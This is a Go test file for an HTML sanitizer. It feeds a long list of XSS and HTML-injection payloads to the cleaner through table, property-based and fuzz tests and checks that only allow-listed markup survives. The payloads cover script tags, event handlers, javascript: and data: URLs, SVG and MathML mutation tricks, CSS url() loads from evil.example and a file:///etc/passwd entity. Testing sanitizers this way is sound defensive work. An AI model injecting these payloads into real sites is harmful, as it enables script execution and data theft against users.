package service_test

import (
	"fmt"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"pgregory.net/rapid"

	"countersign/service"
)

// attacks are pieces of HTML that run something, load something, or leave their place,
// in one browser or another, when they are shown as they are. Some are built below.
var attacks = append(built(), strings.Split(strings.TrimSpace(`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script/src=//evil.example></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script type=module>import('//evil.example')</script>
</script><script>alert(1)</script>
<img src=x onerror=alert(1)>
<img src=x onerror=alert(1)//
<img src="https://ok.example/a.png" onload=alert(1)>
<img/src="x"/onerror=alert(1)>
<img src=x:x onerror&#61;alert(1)>
<img """><script>alert(1)</script>">
<img src="javascript:alert(1)">
<img src=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<img src="jav&#x09;ascript:alert(1)">
<img src=" &#14; javascript:alert(1)">
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<img src="//evil.example/a.png">
<img src="http://evil.example/a.png">
<img src="HTTPS://evil.example/a.png" srcset="javascript:alert(1) 2x">
<img srcset="https://evil.example/a.png 2x">
<img data-src="javascript:alert(1)">
<img data-src="https://evil.example/a.png">
<img lowsrc="javascript:alert(1)">
<img dynsrc="javascript:alert(1)">
<img src="https://a.example/\"onerror=\"alert(1)">
<img src='https://a.example/a"onerror=alert(1) x="'>
<img src=`+"`javascript:alert(1)`"+`>
<img alt="`+"``"+`onerror=alert(1)" src=x>
<img title='"><script>alert(1)</script>' src="https://a.example/x">
<img usemap="#m"><map name="m"><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><script xlink:href="data:,alert(1)"/></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>
<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img src="</noembed><img src=x onerror=alert(1)>">
<noframes></noframes><script>alert(1)</script>
<xmp><img src="</xmp><img src=x onerror=alert(1)>">
<plaintext><img src=x onerror=alert(1)>
<textarea></textarea><img src=x onerror=alert(1)>
<title></title><script>alert(1)</script>
<title><a title="</title><img src=x onerror=alert(1)>">
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src="https://evil.example"></iframe>
<iframe><!--</iframe><script>alert(1)</script>-->
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<object data="javascript:alert(1)"></object>
<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src="//evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)"></applet>
<portal src="javascript:alert(1)"></portal>
<fencedframe src="https://evil.example"></fencedframe>
<base href="javascript:/a/-alert(1)///////">
<base href="https://evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<link rel=preload as=script href=//evil.example>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv=refresh content="0; url=https://evil.example">
<meta http-equiv=Content-Security-Policy content="script-src *">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<style>@import "//evil.example/x.css";</style>
<style>*{background:url(https://evil.example)}</style>
<style>li{list-style-image:url("javascript:alert(1)")}</style><ul><li>x</ul>
<style><!--</style><script>alert(1)</script>-->
<style>a::before{content:"</style><img src=x onerror=alert(1)>"}</style>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">over everything</p>
<p style="background:url(javascript:alert(1))">x</p>
<p style="background-image:url('https://evil.example/track')">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="width:e/**/xpression(alert(1))">x</p>
<p style="behavior:url(#default#time2)">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="color:red;background:u\72l(https://evil.example)">x</p>
<p style="color:\65xpression(alert(1))">x</p>
<p style="color:url(https://evil.example)">x</p>
<p style="color:red}*{display:none}">x</p>
<p style="font-size:99999px">x</p>
<p style="margin:-9999px">x</p>
<p style="transform:scale(100)">x</p>
<p style="z-index:9999;opacity:0">x</p>
<p style="color:var(--x,url(//evil.example))">x</p>
<p style='color:red" onclick="alert(1)'>x</p>
<p style="color:&#34;onclick=alert(1)">x</p>
<p style="display:none">hidden words for the reviewer</p>
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="&#x6A;avascript:alert(1)">x</a>
<a href="&#0000106avascript:alert(1)">x</a>
<a href="javascript://https://ok.example/%0aalert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="blob:https://ok.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:https://ok.example">x</a>
<a href="intent://scan/#Intent;scheme=weixin;end">x</a>
<a href="weixin://dl/business">x</a>
<a href="snssdk1128://openDouyin">x</a>
<a href="tel:110">x</a>
<a href="mailto:a@b.example?bcc=c@d.example">x</a>
<a href="//evil.example">x</a>
<a href="/\evil.example">x</a>
<a href="\\evil.example">x</a>
<a href="http://evil.example">x</a>
<a href="https:evil.example">x</a>
<a href="https://">x</a>
<a href="https://ok.example" target=_blank>x</a>
<a href="https://ok.example" ping="https://evil.example">x</a>
<a href="https://ok.example" download onclick=alert(1)>x</a>
<a href="https://ok.example/?a=<script>alert(1)</script>">x</a>
<a href="https://ok.example/'onmouseover='alert(1)">x</a>
<a href=https://ok.example/"onmouseover="alert(1)>x</a>
<a href="#" onclick="alert(1)">x</a>
<a id=x name=y class=z href="https://ok.example">x</a>
<a title="javascript:alert(1)" href="https://ok.example">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a formaction="javascript:alert(1)">x</a>
<form action="javascript:alert(1)"><input type=submit></form>
<form action="https://evil.example"><input name=password></form>
<form id=x></form><button form=x formaction="javascript:alert(1)">x</button>
<input autofocus onfocus=alert(1)>
<input type=image src=x onerror=alert(1)>
<button onclick=alert(1)>x</button>
<select autofocus onfocus=alert(1)></select>
<textarea autofocus onfocus=alert(1)></textarea>
<keygen autofocus onfocus=alert(1)>
<isindex type=image src=1 onerror=alert(1)>
<isindex action="javascript:alert(1)" type=submit>
<details open ontoggle=alert(1)>x</details>
<dialog open onclose=alert(1)>x</dialog>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<video poster="javascript:alert(1)"></video>
<audio src=x onerror=alert(1)>
<audio autoplay src="https://evil.example/a.mp3">
<track src="javascript:alert(1)">
<picture><source srcset="https://evil.example"><img></picture>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<html manifest="https://evil.example"><head><script>alert(1)</script>
<table background="javascript:alert(1)"><tr><td background="javascript:alert(1)">x</table>
<td onclick=alert(1) colspan=99999>x</td>
<table><tr><td rowspan="-1" width="1e9">x</table>
<table><td><table><script>alert(1)</script></table></td></table>
<marquee onstart=alert(1)>x</marquee>
<bgsound src="javascript:alert(1)">
<layer src="https://evil.example/x.js"></layer>
<ilayer src="https://evil.example"></ilayer>
<blink onclick=alert(1)>x</blink>
<xss style="behavior:url(x.htc)">x</xss>
<x-y onclick=alert(1) contenteditable tabindex=1 autofocus onfocus=alert(1)>x</x-y>
<p onclick=alert(1)>x</p>
<p ONCLICK=alert(1)>x</p>
<p on&#99;lick=alert(1)>x</p>
<p/onclick=alert(1)>x</p>
<p
onclick=alert(1)>x</p>
<p onpointerrawupdate=alert(1) onbeforetoggle=alert(1) popover>x</p>
<p id=location name=document class=admin data-x=1 slot=a part=b is=c>clobber</p>
<p tabindex=0 accesskey=x draggable=true contenteditable>x</p>
<p itemprop=x lang=zh dir=rtl>x</p>
<p style="" style="color:red" onclick=alert(1) onclick=alert(2)>x</p>
<!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--><script>alert(1)</script>-->
<!--<img src="--><img src=x onerror=alert(1)//">
<!-- --!><script>alert(1)</script> -->
<![CDATA[<script>alert(1)</script>]]>
<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><p>&y;</p>
<?xml version="1.0"?><?import namespace="t" implementation="#default#time2"?>
<?php echo 1 ?><script>alert(1)</script>
<% alert(1) %>
&lt;script&gt;alert(1)&lt;/script&gt;
&amp;lt;script&amp;gt;alert(1)
%3Cscript%3Ealert(1)%3C/script%3E
\x3cscript\x3ealert(1)
＜script＞alert(1)＜/script＞
<ſcript>alert(1)</ſcript>
<scrİpt>alert(1)</scrİpt>
<p>a</p><//p><p/><<p>><p <p>
<p><a href="https://ok.example"><p><a href="https://ok.example"><b><i></p></b>
<ul><li><ul></li><li><table><ul>
<b><p><i></b></p></i><em><strong></em>
<pre>

two lines</pre>
<h1 style="text-align:center"><h7><h0>
<p>{{constructor.constructor('alert(1)')()}}</p>
<p>${alert(1)}</p>
`), "\n")...)

// built are attacks with characters that do not stand well in a source file.
func built() (out []string) {
	for _, c := range []string{"\x00", "\x01", "\x08", "\t", "\n", "\v", "\f", "\r", "\x1b", "\x7f", "\u0085", "\u00a0", "\u00ad", "\u200b", "\u2028", "\u202e", "\ufeff", "\xff", "\xc0\xbc", "\ufffd"} {
		out = append(out, `<a href="java`+c+`script:alert(1)">x</a>`, `<a href="`+c+`javascript:alert(1)">x</a>`, `<p`+c+`onclick=alert(1)>x</p>`,
			`<scr`+c+`ipt>alert(1)</script>`, `<img src="https://a.example/`+c+`x" alt="`+c+`">`, `<p style="col`+c+`or:u`+c+`rl(x)">x</p>`, `<`+c+`script>alert(1)</script>`)
	}
	return append(out, strings.Repeat("<b>", 3000), strings.Repeat("<div><table>", 300), "<a href=\""+strings.Repeat("https://a", 2000)+"\">x</a>",
		"<p style=\""+strings.Repeat("color:red;", 5000)+"\">x</p>", strings.Repeat("<", 10000), strings.Repeat("&", 5000), "<p "+strings.Repeat("a ", 5000)+">x")
}

// allowed are the elements of an article and what may stand on each, besides style.
var allowedOn = func() map[string][]string {
	m := map[string][]string{"img": {"src", "alt", "title", "width", "height"}, "a": {"href", "alt", "title", "rel"}}
	for e := range strings.FieldsSeq(`p br hr section div span strong b em i u s del sub sup small blockquote pre code h1 h2 h3 h4 h5 h6 ul ol li
		figure figcaption table thead tbody tfoot tr`) {
		m[e] = nil
	}
	for _, e := range []string{"td", "th"} {
		m[e] = []string{"colspan", "rowspan", "width", "height"}
	}
	return m
}()

var (
	properties = strings.Fields(`color background-color border-color font-size line-height letter-spacing text-indent margin margin-top margin-bottom
		margin-left margin-right padding padding-top padding-bottom padding-left padding-right width max-width height border-radius border-width
		text-align font-weight font-style text-decoration vertical-align border-style white-space`)
	badValue = regexp.MustCompile(`(?i)url|expression|javascript|fixed|absolute|var\(|[\\<>"'{}@]|/\*`)
	wellURL  = regexp.MustCompile(`^(?i)https://[^\s"'<>]+$`)
)

// escapes says what in a cleaned text is not on the list, or "". The text is read as a
// browser reads it, in the middle of a page and as a whole one.
func escapes(clean string) string {
	tokens := html.NewTokenizer(strings.NewReader(clean))
	for {
		switch tokens.Next() {
		case html.ErrorToken:
			return escapesAsDocument(clean)
		case html.CommentToken, html.DoctypeToken:
			return "a comment or a doctype"
		case html.StartTagToken, html.SelfClosingTagToken:
			t := tokens.Token()
			if why := badElement(t.Data, t.Attr); why != "" {
				return why
			}
		case html.EndTagToken:
			if name := tokens.Token().Data; !known(name) {
				return "</" + name + ">"
			}
		case html.TextToken:
		}
	}
}

func known(name string) bool { _, ok := allowedOn[name]; return ok }

func escapesAsDocument(clean string) string {
	doc, err := html.Parse(strings.NewReader("<!doctype html><body><div>" + clean + "</div><p>after</p>"))
	if err != nil { // nested deeper than it goes; the tokens have been looked at
		return ""
	}
	for n := range doc.Descendants() {
		if n.Type != html.ElementNode || slices.Contains([]string{"html", "head", "body"}, n.Data) {
			continue
		}
		if n.Namespace != "" {
			return "foreign " + n.Data
		}
		if why := badElement(n.Data, n.Attr); why != "" && n.Data != "colgroup" && n.Data != "col" {
			return why
		}
	}
	return ""
}

var uploaded = regexp.MustCompile(`^media:[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$`)

func badElement(name string, attrs []html.Attribute) string {
	if !known(name) {
		return "<" + name + ">"
	}
	for _, a := range attrs {
		where := fmt.Sprintf("<%s %s=%q>", name, a.Key, a.Val)
		switch {
		case a.Key == "style":
			if why := badStyle(a.Val); why != "" {
				return where + ": " + why
			}
		case !slices.Contains(allowedOn[name], a.Key):
			return where
		case a.Key == "src":
			if !uploaded.MatchString(a.Val) { // no other picture is shown
				return where
			}
		case a.Key == "href":
			if u, err := url.Parse(a.Val); err != nil || u.Scheme != "https" || u.Host == "" || !wellURL.MatchString(a.Val) {
				return where
			}
		}
	}
	return ""
}

func badStyle(style string) string {
	for rule := range strings.SplitSeq(style, ";") {
		property, value, ok := strings.Cut(rule, ":")
		if strings.TrimSpace(rule) == "" {
			continue
		}
		if !ok || !slices.Contains(properties, strings.TrimSpace(property)) || badValue.MatchString(value) {
			return rule
		}
	}
	return ""
}

// safe asks that a text, cleaned, holds only what is on the list, and that cleaning it
// again changes nothing.
func safe(t interface {
	Helper()
	Errorf(string, ...any)
}, in string,
) {
	t.Helper()
	clean := service.CleanHTML(in)
	if why := escapes(clean); why != "" {
		t.Errorf("%.300q became %.300q, which holds %s", in, clean, why)
	}
	if again := service.CleanHTML(clean); again != clean {
		t.Errorf("%.300q became %.300q, and then %.300q", in, clean, again)
	}
}

func TestCleanHTML(t *testing.T) {
	t.Parallel()
	if len(attacks) < 300 {
		t.Fatalf("%d attacks", len(attacks))
	}
	for _, a := range attacks {
		safe(t, a)
		if len(a) > 2000 {
			continue
		}
		safe(t, "<table><tr><td>"+a+"</td></tr></table><p>x")
		safe(t, "<p title='"+a+"' style=\""+a+"\">x</p>")
		safe(t, "<a href=\"https://ok.example/"+a+"\">"+a)
	}
}

// What an author needs passes as it is.
func TestCleanHTMLKeepsAnArticle(t *testing.T) {
	t.Parallel()
	for _, keep := range []string{
		"", "新品上市", "<p>正文</p>", "<h2>一</h2><p>二<br>三</p>", "a &amp; b &lt; c", "<b>a</b><em>b</em>",
		`<section style="text-align: center; color: #c00; font-size: 16px; line-height: 1.75em">x</section>`,
		`<img src="media:01a203d5-3b2a-7497-81a8-c5a8eb943b0a" alt="图" width="100%">`,
		`<table><tbody><tr><td colspan="2">x</td></tr></tbody></table>`, "<ul><li>一</li><li>二</li></ul>", "<blockquote>引</blockquote>",
	} {
		if got := service.CleanHTML(keep); got != keep {
			t.Errorf("%q became %q", keep, got)
		}
		safe(t, keep)
	}
	if got := service.CleanHTML(`<a href="https://ok.example/">x</a>`); !strings.Contains(got, `rel="nofollow noreferrer"`) {
		t.Errorf("a link without rel: %s", got)
	}
}

// Any mix of the pieces, cut and joined anywhere.
func TestCleanHTMLOfAnything(t *testing.T) {
	t.Parallel()
	piece := rapid.OneOf(
		rapid.SampledFrom(attacks), rapid.String(),
		rapid.SampledFrom([]string{"<p>", "</p>", "<table>", "<td>", "<a href=\"", "\">", "'", "<!--", "-->", "<style>", "<svg>", "<math>", "<b ", "style=\"color:", "&#", "&lt;", "<", ">", "/>"}),
	)
	rapid.Check(t, func(r *rapid.T) {
		var in strings.Builder
		for _, p := range rapid.SliceOfN(piece, 1, 8).Draw(r, "pieces") {
			if len(p) > 500 {
				p = p[:500]
			}
			in.WriteString(p[:rapid.IntRange(0, len(p)).Draw(r, "cut")])
		}
		safe(r, in.String())
	})
}

func FuzzCleanHTML(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, in string) { safe(t, in) })
}
